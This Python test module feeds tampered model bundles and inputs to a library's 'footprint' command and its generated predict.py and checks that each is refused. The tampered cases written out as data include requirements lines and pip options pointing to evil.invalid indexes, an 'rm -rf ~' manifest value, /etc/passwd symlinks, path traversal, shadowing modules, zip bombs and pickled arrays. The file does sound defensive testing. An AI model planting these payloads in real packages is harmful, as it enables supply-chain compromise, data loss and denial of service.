"""Tampered bundles: the cases of tests/test_hostile_bundles.py and benchmarks.hostile."""

from __future__ import annotations

import contextlib
import functools
import hashlib
import io
import json
import os
import py_compile
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np

from tests.hostile import (
    MEMORY_FLOOR,
    WALL_LIMIT,
    Case,
    Invocation,
    Outcome,
    deflate_zeros_bomb,
    status_bytes,
    strict,
    touch_command,
    tree_bytes,
    within_inputs,
    zip_with_raw_entries,
)

FAMILY = "bundles"


MARKER = "MARKER"


BOMB_ROWS = 12 << 20


Tamper = Callable[[Path, Path], None]


# -- the bundle, and what an attacker does to it ---------------------------------------------------------
@functools.cache
def _template() -> Path:
    """One real bundle, exported once per session (an MLP taking x of shape [batch, 64])."""
    import torch

    from slimtorch.deploy import export
    from tests.zoo.models import MLP

    folder = Path(tempfile.mkdtemp(prefix="slimtorch-hostile-bundle-"))
    torch.manual_seed(0)
    export(MLP().eval(), torch.randn(1, 64), folder / "bundle", dynamic_batch=True)
    import atexit

    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    return folder / "bundle"


def _bundle(folder: Path) -> Path:
    return Path(shutil.copytree(_template(), folder / "bundle"))


def _manifest(bundle: Path) -> dict:
    return json.loads((bundle / "manifest.json").read_text())


def _edit_manifest(bundle: Path, edit: Callable[[dict], object]) -> None:
    manifest = _manifest(bundle)
    edit(manifest)
    (bundle / "manifest.json").write_text(json.dumps(manifest))


def _rehash(bundle: Path, *names: str) -> None:
    """The manifest's size and sha256 of ``names`` made to match, as anyone editing a bundle can."""

    def edit(manifest: dict) -> None:
        for name in names:
            data = (bundle / name).read_bytes()
            manifest["files"][name] = {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}

    _edit_manifest(bundle, edit)


def _touching(folder: Path) -> str:
    """Python that touches the case's marker file."""
    return f"__import__('os').system({touch_command(folder / MARKER)!r})\n"


def _runner_touches(rehash: bool) -> Tamper:
    def tamper(bundle: Path, folder: Path) -> None:
        runner = bundle / "predict.py"
        lines = runner.read_text().splitlines(keepends=True)
        first = next((i + 1 for i, line in enumerate(lines) if line.startswith("from __future__")), 0)
        runner.write_text("".join([*lines[:first], _touching(folder), *lines[first:]]))  # runs on import
        if rehash:
            _rehash(bundle, "predict.py")

    return tamper


def _beside(name: str, listed: bool = False) -> Tamper:
    """Code the runner would import (``numpy.py``, a package, bytecode) put in the bundle's folder."""

    def tamper(bundle: Path, folder: Path) -> None:
        path = bundle / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if name.endswith(".pyc"):
            source = folder / "source.py"
            source.write_text(_touching(folder))
            py_compile.compile(str(source), str(path), doraise=True)
        else:
            path.write_text(_touching(folder))
        if listed:
            _rehash(bundle, name)

    return tamper


def _link_beside(bundle: Path, folder: Path) -> None:
    (bundle / "notes").symlink_to("/etc/passwd")


def _model_a_link(bundle: Path, folder: Path) -> None:
    outside = folder / "model.onnx"
    shutil.move(bundle / "model.onnx", outside)
    (bundle / "model.onnx").symlink_to(outside)  # the same bytes, the same sha256


def _model_byte(bundle: Path, folder: Path) -> None:
    with open(bundle / "model.onnx", "r+b") as stream:
        stream.seek(-100, 2)
        byte = stream.read(1)
        stream.seek(-100, 2)
        stream.write(bytes([byte[0] ^ 0xFF]))


def _model_cut(bundle: Path, folder: Path) -> None:
    data = (bundle / "model.onnx").read_bytes()
    (bundle / "model.onnx").write_bytes(data[: len(data) // 2])


def _manifest_text(text: str) -> Tamper:
    def tamper(bundle: Path, folder: Path) -> None:
        (bundle / "manifest.json").write_text(text)

    return tamper


def _manifest_edit(edit: Callable[[dict], object]) -> Tamper:
    def tamper(bundle: Path, folder: Path) -> None:
        _edit_manifest(bundle, edit)

    return tamper


def _renamed(old: str, new: str) -> Callable[[dict], object]:
    """Every mention of file ``old`` in the manifest made ``new`` (a path out of the folder)."""

    def edit(manifest: dict) -> None:
        manifest["files"][new] = manifest["files"].pop(old)
        if manifest["model"]["file"] == old:
            manifest["model"].update(file=new, files=[new])
        manifest["sample"] = {k: new if v == old else v for k, v in manifest["sample"].items()}

    return edit


def _moved(old: str, new: str) -> Tamper:
    """File ``old`` moved to ``new`` (relative to the bundle, out of it or into a folder), the manifest
    pointing there: the same bytes, the same sha256, only the name is hostile."""

    def tamper(bundle: Path, folder: Path) -> None:
        target = bundle / new
        target.parent.mkdir(parents=True, exist_ok=True)
        shutil.move(bundle / old, target)
        _edit_manifest(bundle, _renamed(old, new))

    return tamper


def _with_json_bytes(key: str, raw: str) -> Tamper:
    """The manifest with ``"key": raw`` written verbatim (a number no JSON library would write)."""

    def tamper(bundle: Path, folder: Path) -> None:
        text = json.dumps(_manifest(bundle))
        (bundle / "manifest.json").write_text(text[:-1] + f', "{key}": {raw}}}')

    return tamper


def _requirement(line: str) -> Tamper:
    """``line`` put in requirements.txt before the pinned runtime, the sha256 made to match."""

    def tamper(bundle: Path, folder: Path) -> None:
        path = bundle / "requirements.txt"
        path.write_text(line + "\n" + path.read_text())
        _rehash(bundle, "requirements.txt")

    return tamper


@functools.cache
def _bomb_bytes(rows: int, header_rows: int, zip_size: int | None) -> bytes:
    """An .npz whose member ``x.npy`` inflates to ``rows`` x 64 float32 zeros; its .npy header says
    ``header_rows``, its zip entry ``zip_size`` bytes (None: the truth)."""
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f4", "fortran_order": False, "shape": (header_rows, 64)}
    )
    stream, crc = deflate_zeros_bomb(header.getvalue(), rows * 64 * 4)
    size = len(header.getvalue()) + rows * 64 * 4 if zip_size is None else zip_size
    with tempfile.TemporaryDirectory() as scratch:
        path = zip_with_raw_entries(Path(scratch) / "bomb.npz", [("x.npy", stream, 8, crc, size)])
        return path.read_bytes()


def _npz_bomb(path: Path, header_rows: int = BOMB_ROWS, zip_size: int | None = None) -> Path:
    path.write_bytes(_bomb_bytes(BOMB_ROWS, header_rows, zip_size))
    return path


def _many_members(path: Path, count: int = 5000) -> Path:
    one = io.BytesIO()
    np.save(one, np.zeros((1, 64), np.float32))
    with zipfile.ZipFile(path, "w") as archive:
        for index in range(count):
            archive.writestr(f"x{index}.npy", one.getvalue())
    return path


def _pickled(path: Path) -> Path:
    np.savez(path, x=np.array([{"a": 1}], dtype=object))
    return path


def _sample(make: Callable[[Path], Path]) -> Tamper:
    def tamper(bundle: Path, folder: Path) -> None:
        make(bundle / "sample_inputs.npz")
        _rehash(bundle, "sample_inputs.npz")

    return tamper


def _own_bytecode(bundle: Path, folder: Path) -> None:
    """``from predict import Bundle``, as the runner's docstring suggests, writes its bytecode here."""
    code = "import sys; sys.dont_write_bytecode = False; sys.path.insert(0, '.'); import predict"
    subprocess.run([sys.executable, "-c", code], cwd=bundle, check=True, timeout=60)
    assert list((bundle / "__pycache__").glob("predict.*.pyc"))


def _users_output(bundle: Path, folder: Path) -> None:
    np.savez(bundle / "out.npz", output=np.zeros((1, 10), np.float32))


RUNNER_TAMPERS: dict[str, Tamper] = {
    "runner-touches-a-marker": _runner_touches(rehash=False),
    "runner-touches-a-marker-rehashed": _runner_touches(rehash=True),
}


TAMPERS: dict[str, Tamper] = {
    "module-beside-the-runner": _beside("numpy.py"),
    "module-beside-the-runner-listed": _beside("numpy.py", listed=True),
    "package-beside-the-runner": _beside("onnxruntime/__init__.py"),
    "bytecode-beside-the-runner": _beside("json.pyc"),
    "other-bytecode-in-pycache": _beside("__pycache__/numpy.cpython-311.pyc"),
    "link-beside-the-runner": _link_beside,
    "model-is-a-link": _model_a_link,
    "model-byte-changed": _model_byte,
    "model-cut-short": _model_cut,
    "manifest-not-json": _manifest_text('{"format": "slimtorch-bundle", '),
    "manifest-a-list": _manifest_text("[]"),
    "manifest-nested-100000-deep": _manifest_text("[" * 100_000 + "]" * 100_000),
    "manifest-files-a-list": _manifest_edit(lambda m: m.update(files=list(m["files"]))),
    "manifest-file-entry-a-string": _manifest_edit(lambda m: m["files"].update({"model.onnx": "ok"})),
    "manifest-shape-a-string": _manifest_edit(lambda m: m["inputs"][0].update(shape="batch x 64")),
    "manifest-dtype-object": _manifest_edit(lambda m: m["inputs"][0].update(dtype="object")),
    "manifest-atol-a-string": _manifest_edit(lambda m: m["tolerance"].update(atol="1e-4")),
    "manifest-version-a-string": _manifest_edit(lambda m: m.update(version="1")),
    "manifest-without-files": _manifest_edit(lambda m: m.pop("files")),
    "manifest-without-model": _manifest_edit(lambda m: m.pop("model")),
    "manifest-without-sample": _manifest_edit(lambda m: m.pop("sample")),
    "manifest-without-inputs": _manifest_edit(lambda m: m.pop("inputs")),
    "manifest-no-inputs": _manifest_edit(lambda m: m.update(inputs=[])),
    "manifest-model-dotdot": _moved("model.onnx", "../model.onnx"),
    "manifest-model-absolute": _manifest_edit(_renamed("model.onnx", "/etc/passwd")),
    "manifest-sample-dotdot": _moved("sample_inputs.npz", "../sample_inputs.npz"),
    "manifest-model-in-a-subfolder": _moved("model.onnx", "sub/model.onnx"),
    "manifest-size-10e30": _manifest_edit(lambda m: m["files"]["model.onnx"].update(bytes=10**30)),
    "manifest-size-negative": _manifest_edit(lambda m: m["files"]["model.onnx"].update(bytes=-1)),
    "manifest-dimension-10e15": _manifest_edit(lambda m: m["inputs"][0].update(shape=["batch", 10**15])),
    "manifest-integer-of-5000-digits": _with_json_bytes("size", "9" * 5000),
    "manifest-unknown-key": _manifest_edit(lambda m: m.update(postinstall="rm -rf ~")),
    "manifest-pip-options": _manifest_edit(
        lambda m: m.update(pip_options=["--index-url", "http://evil.invalid/simple"])
    ),
    "manifest-requirement-a-url": _manifest_edit(
        lambda m: m.update(requirements=["numpy @ https://evil.invalid/numpy.whl"])
    ),
    "manifest-embedding-source-unknown": _manifest_edit(
        lambda m: m["verification"].update(embedding_source={"output": "no", "pooled": 1, "mask": None})
    ),
    **{
        f"requirements-{re.sub(r'[^a-z0-9]+', '-', line.lower()).strip('-')}": _requirement(line)
        for line in (
            "--index-url http://evil.invalid/simple",
            "--extra-index-url http://evil.invalid/simple",
            "-i http://evil.invalid/simple",
            "-f http://evil.invalid/wheels",
            "--trusted-host evil.invalid",
            "-e .",
            "-r other.txt",
            "-c constraints.txt",
            "git+https://github.com/evil/pkg",
            "./local.whl",
            "/tmp/local.whl",
            "https://evil.invalid/numpy-2.0-py3-none-any.whl",
            "evil @ file:///tmp/evil",
            "numpy>=1.24",
            "numpy",
            "numpy[extra]==2.4.6",
            "numpy==2.4.6; python_version > '3'",
            "numpy==2.4.6 --hash=sha256:00",
            "numpy==${EVIL}",
            "numpy==2.4.6 \\",
            "evilpkg==1.0",  # pinned, but not what the manifest lists
        )
    },
    "sample-bomb-3-gib": _sample(_npz_bomb),
    "sample-bomb-lying-zip-size": _sample(functools.partial(_npz_bomb, zip_size=1 << 20)),
    "sample-holds-a-pickle": _sample(_pickled),
    "sample-with-5000-members": _sample(_many_members),
}


ACCEPTED: dict[str, Tamper] = {
    "untampered": lambda bundle, folder: None,
    "with-its-own-bytecode": _own_bytecode,
    "with-the-users-output-beside-it": _users_output,
}


def _no_marker(folder: Path) -> Callable[[str, str], str | None]:
    def check(stdout: str, stderr: str) -> str | None:
        return f"code from the bundle ran: {MARKER} was written" if (folder / MARKER).exists() else None

    return check


def _refused_before_pip(folder: Path) -> Callable[[str, str], str | None]:
    """No marker, and no pip: a refusal from pip itself (an index it cannot reach) comes too late."""

    def check(stdout: str, stderr: str) -> str | None:
        return _no_marker(folder)(stdout, stderr) or (
            "pip ran on the bundle" if "pip install" in stderr else None
        )

    return check


# -- slimtorch footprint, through the corpus harness -------------------------------------------------------
def _footprint_case(name: str, tamper: Tamper, expect: str = "refuse") -> Case:
    def build(folder: Path) -> Invocation:
        bundle = _bundle(folder)
        tamper(bundle, folder)
        return Invocation(["footprint", str(bundle), "--no-baseline"], check=_refused_before_pip(folder))

    return Case(f"{FAMILY}/{name}/footprint", FAMILY, expect, build)


CASES = strict([_footprint_case(name, tamper) for name, tamper in {**RUNNER_TAMPERS, **TAMPERS}.items()])


# -- the bundle's own predict.py, run as a user runs it ----------------------------------------------------
def _predict_case(name: str, tamper: Tamper, args: Callable[[Path], list[str]], expect: str) -> Case:
    def build(folder: Path) -> Invocation:
        bundle = _bundle(folder)
        tamper(bundle, folder)
        return Invocation(args(folder), cwd=bundle, check=_no_marker(folder))

    return Case(f"{FAMILY}/{name}/predict.py", FAMILY, expect, build)


def _given(make: Callable[[Path], Path], *flags: str) -> Callable[[Path], list[str]]:
    """``predict.py FILE`` with the input file ``make(folder / "input.<ext>")`` builds."""
    return lambda folder: [str(make(folder)), *flags]


def _npz(*shape: int, dtype=np.float32) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        np.savez(folder / "input.npz", x=np.ones(shape, dtype))
        return folder / "input.npz"

    return make


def _npy(*shape: int) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        np.save(folder / "input.npy", np.ones(shape, np.float32))
        return folder / "input.npy"

    return make


def _in(name: str, write: Callable[[Path], object]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        write(folder / name)
        return folder / name

    return make


def _npy_claiming(rows: int) -> Callable[[Path], object]:
    """A 1 KB .npy whose header claims ``rows`` x 64 float32."""

    def write(path: Path) -> None:
        header = io.BytesIO()
        np.lib.format.write_array_header_1_0(
            header, {"descr": "<f4", "fortran_order": False, "shape": (rows, 64)}
        )
        path.write_bytes(header.getvalue() + bytes(1024))

    return write


def _json(value: object) -> Callable[[Path], object]:
    return lambda path: path.write_text(json.dumps(value))


def CHECK(folder: Path) -> list[str]:
    return ["--check"]


INPUTS: dict[str, tuple[Callable[[Path], list[str]], str]] = {
    "input-npz": (_given(_npz(3, 64)), "accept"),
    "input-npz-int8-for-float32": (_given(_npz(3, 64, dtype=np.int8)), "accept"),
    "input-npy": (_given(_npy(2, 64)), "accept"),
    "input-json": (_given(_in("input.json", _json([[0.5] * 64]))), "accept"),
    "input-npz-bomb-3-gib": (_given(lambda f: _npz_bomb(f / "input.npz")), "refuse"),
    "input-npz-bomb-lying-zip-size": (
        _given(lambda f: _npz_bomb(f / "input.npz", zip_size=1 << 20)),
        "refuse",
    ),
    "input-npz-bomb-header-says-one-row": (
        _given(lambda f: _npz_bomb(f / "input.npz", header_rows=1)),
        "refuse",
    ),
    "input-npz-within-the-shape-over-a-given-budget": (
        _given(_npz(64, 64), "--max-input-bytes", "4096"),
        "refuse",
    ),
    "input-npz-with-5000-members": (_given(lambda f: _many_members(f / "input.npz")), "refuse"),
    "input-npz-holds-a-pickle": (_given(lambda f: _pickled(f / "input.npz")), "refuse"),
    "input-npz-wrong-width": (_given(_npz(3, 63)), "refuse"),
    "input-npz-not-a-zip": (
        _given(_in("input.npz", lambda p: p.write_bytes(bytes(range(256)) * 16))),
        "refuse",
    ),
    "input-npy-claims-a-terabyte": (_given(_in("input.npy", _npy_claiming(4 << 30))), "refuse"),
    "input-npy-holds-a-pickle": (
        _given(_in("input.npy", lambda p: np.save(p, np.array([{}], dtype=object), allow_pickle=True))),
        "refuse",
    ),
    "input-json-nested-100000-deep": (
        _given(_in("input.json", lambda p: p.write_text("[" * 100_000 + "]" * 100_000))),
        "refuse",
    ),
    "input-json-of-objects": (_given(_in("input.json", _json({"x": {"a": 1}}))), "refuse"),
    "input-json-of-strings": (_given(_in("input.json", _json([["a"] * 64]))), "refuse"),
    "input-json-of-a-huge-integer": (_given(_in("input.json", _json([[10**30] * 64]))), "refuse"),
    "input-json-over-a-given-budget": (
        _given(_in("input.json", _json([[0.5] * 64] * 64)), "--max-input-bytes", "32768"),
        "refuse",
    ),
}


PREDICT_CASES = [
    *(_predict_case(name, tamper, CHECK, "refuse") for name, tamper in TAMPERS.items()),
    *(_predict_case(name, tamper, CHECK, "accept") for name, tamper in ACCEPTED.items()),
    *(_predict_case(name, ACCEPTED["untampered"], args, expect) for name, (args, expect) in INPUTS.items()),
    *(
        _predict_case(f"{name}-given-an-input", TAMPERS[name], _given(_npz(3, 64)), "refuse")
        for name in TAMPERS
        if name.startswith("manifest-") or name.endswith("-beside-the-runner")
    ),
]


START = _predict_case("start", ACCEPTED["untampered"], CHECK, "accept")


def run_predict_cases(cases: list[Case], root: Path, wall: float = WALL_LIMIT) -> Iterator[Outcome]:
    """Each case's ``python predict.py ARGS`` in the bundle's folder, one at a time, judged as the harness
    judges a CLI call (a refusal: exit 2, one ``predict.py: error:`` line naming a file of the case): peak
    RSS of the process itself (:func:`_run_predict`), killed past the wall limit or the memory limit, and
    held to issue 44's bound (:func:`tests.hostile.within_inputs`) over the peak of ``predict.py --check``
    on an untouched bundle, the runner's own start."""
    start = 0
    for case in [START, *cases]:
        folder = root / f"{re.sub(r'[^A-Za-z0-9_.-]+', '_', case.id)}-{zlib.crc32(case.id.encode()):08x}"
        folder.mkdir(parents=True)
        started = time.monotonic()
        try:
            invocation = case.build(folder)
        except Exception as exc:
            yield Outcome(
                case, "build", None, "", time.monotonic() - started, 0, 0, f"{type(exc).__name__}: {exc}"
            )
            continue
        inputs = tree_bytes(folder)
        outcome = _run_predict(case, invocation, folder, int(max(MEMORY_FLOOR, 2 * inputs)), wall)
        if case is START:
            assert outcome.verdict == "accepted", outcome.describe()
            start = outcome.peak_rss
            continue
        outcome = within_inputs(outcome, start, inputs)
        if outcome.passed:
            shutil.rmtree(folder, ignore_errors=True)
        yield outcome


def _run_predict(case: Case, invocation: Invocation, folder: Path, limit: int, wall: float) -> Outcome:
    out, err = folder.with_name(folder.name + ".out"), folder.with_name(folder.name + ".err")
    started, killed, peak = time.monotonic(), "", 0
    # wait4's ru_maxrss keeps the larger of the child's own peak and this process's high water at the exec
    # (Linux carries it over): it is the child's only above the latter; below, the polled VmHWM of its own
    # memory after the exec says it (Popen returns once the exec is done)
    inherited = status_bytes(os.getpid(), "VmHWM")
    with open(out, "w") as stdout, open(err, "w") as stderr:
        process = subprocess.Popen(
            [sys.executable, "predict.py", *invocation.argv],
            cwd=invocation.cwd,
            stdin=subprocess.DEVNULL,
            stdout=stdout,
            stderr=stderr,
            start_new_session=True,
        )
        while True:
            done, status, usage = os.wait4(process.pid, os.WNOHANG)
            if done:
                process.returncode = os.waitstatus_to_exitcode(status)
                if usage.ru_maxrss * 1024 > inherited:
                    peak = max(peak, usage.ru_maxrss * 1024)
                break
            peak = max(peak, status_bytes(process.pid, "VmHWM"))
            if not killed and (time.monotonic() - started > wall or peak > limit):
                killed = "timeout" if peak <= limit else "memory"
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(process.pid, signal.SIGKILL)
            time.sleep(0.01)
    seconds, code = time.monotonic() - started, process.returncode
    stdout_text, stderr_text = out.read_text(errors="replace"), err.read_text(errors="replace")

    def done_as(verdict: str, problem: str = "") -> Outcome:
        return Outcome(case, verdict, code, stderr_text, seconds, peak, limit, problem)

    if killed or peak > limit:
        return done_as(killed or "memory", f"peak RSS {peak >> 20} MiB of {limit >> 20}, {seconds:.0f} s")
    if code < 0:
        return done_as("signal", signal.Signals(-code).name)
    if "Traceback" in stderr_text:
        return done_as("traceback", (stderr_text.strip().splitlines() or [""])[-1][:200])
    problem = invocation.check(stdout_text, stderr_text) if invocation.check else None
    if problem:
        return done_as("wrong", problem)
    if code == 0:
        if case.expect == "refuse":
            return done_as("wrong", "accepted (exit 0) where a refusal was expected")
        return done_as("accepted")
    lines = stderr_text.strip().splitlines()
    if code != 2:
        return done_as("wrong", f"exit {code}")
    if len(lines) != 1 or not lines[0].startswith("predict.py: error: "):
        return done_as("wrong", f"{len(lines)} lines on stderr, not one 'predict.py: error:' line")
    if str(folder) not in lines[0]:
        return done_as("wrong", "the message names no file of the case")
    if case.expect == "accept":
        return done_as("wrong", "refused where a clean accept was expected")
    return done_as("refused")
